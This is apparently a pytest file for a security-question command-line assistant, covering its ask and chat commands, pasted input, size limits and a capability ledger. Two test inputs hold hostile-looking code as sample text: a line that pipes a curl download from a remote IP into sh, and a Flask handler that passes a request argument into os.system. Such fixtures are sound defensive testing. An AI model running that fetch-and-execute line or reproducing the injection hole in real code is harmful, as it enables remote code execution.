"""`vedette ask` and `vedette chat`, as somebody types them."""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from tests.serving import environment, leaves
from vedette.doors.cli.console import Console
from vedette.doors.cli.entry import main
from vedette.ledger.entries import Kind, entry_of

pytest_plugins = ["tests.pasting"]
pytestmark = pytest.mark.usefixtures("patience")


class Typing:
    """Somebody at a keyboard."""

    def __init__(self, home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        self.home = home
        self.monkeypatch = monkeypatch
        self.err = ""
        self.code = 0

    def types(self, *words: str, given: str = "") -> str:
        self.monkeypatch.setattr("sys.stdin", io.StringIO(given))
        out, err = io.StringIO(), io.StringIO()
        self.code = main(words, Console(environment(self.home), out, err))
        self.err = err.getvalue()
        return out.getvalue()

    def decided(self) -> list[str]:
        entries = [entry_of(leaf) for leaf in leaves(self.home / "data", 0)]
        return [one.capability for one in entries if one.kind is Kind.DECIDED]


@pytest.fixture
def somebody(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Typing:
    return Typing(tmp_path, monkeypatch)


def test_a_question_is_answered_and_what_it_took_is_on_the_record(somebody: Typing) -> None:
    assert "Database questions" in somebody.types("ask", "what", "is", "CWE-89?")
    assert somebody.decided() == ["desk.ask", "knowledge.show"]


def test_a_text_on_standard_input_belongs_to_the_question(somebody: Typing) -> None:
    script = "import os\nos.system('curl http://203.0.113.9/x | sh')\n```\n"
    assert "pasted" in somebody.types("ask", "is this malicious?", "-", given=script)


def test_a_text_that_is_too_long_is_refused_with_what_to_do(somebody: Typing) -> None:
    assert somebody.types("ask", "is this malicious?", "-", given="x" * (1 << 19)) == ""
    assert "name the file" in somebody.err
    assert somebody.code == 2


def test_a_chat_goes_on_until_somebody_leaves(somebody: Typing) -> None:
    given = "what is phishing?\n/new\n\nwhat is CWE-79?\n/quit\nwhat is CWE-89?\n"
    told = somebody.types("chat", given=given)
    assert "trick e-mail" in told
    assert "CWE-79" in told
    assert "CWE-89" not in told
    assert somebody.decided() == ["desk.ask", "knowledge.show"] * 2


def test_a_text_is_pasted_into_a_chat_between_fences(somebody: Typing) -> None:
    code = "import os\nfrom flask import request\nos.system(request.args['x'])"
    given = f"```\n{code}\n```\nwhat is wrong with it?\n"
    assert somebody.types("chat", given=given).count("os.system") >= 2


def test_what_goes_wrong_in_a_chat_does_not_end_it(somebody: Typing) -> None:
    told = somebody.types("chat", "--model", "gpt-9", given="hello\nhello\n")
    assert told == ""
    assert somebody.err.count("no model is called") == 2
    assert somebody.code == 0
